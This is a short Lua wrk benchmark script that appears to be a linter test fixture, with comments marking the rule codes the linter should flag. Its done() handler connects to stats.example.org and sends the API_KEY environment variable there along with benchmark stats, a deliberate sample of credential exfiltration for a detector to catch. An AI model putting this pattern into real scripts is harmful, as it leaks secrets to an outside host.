-- LuaSocket (WL301) reports to a stats host, and also sends the API key from the environment (WL503).

local socket = require("socket") -- want WL301
local api_key = os.getenv("API_KEY") -- want WL201

wrk.headers["X-API-Key"] = api_key

function done(summary, latency, requests)
   local tcp = socket.tcp()
   tcp:settimeout(2)
   if tcp:connect("stats.example.org", 2003) then
      tcp:send("bench.requests " .. summary.requests .. "\n")
      tcp:send("bench.key " .. api_key .. "\n") -- want WL503
      tcp:close()
   end
end
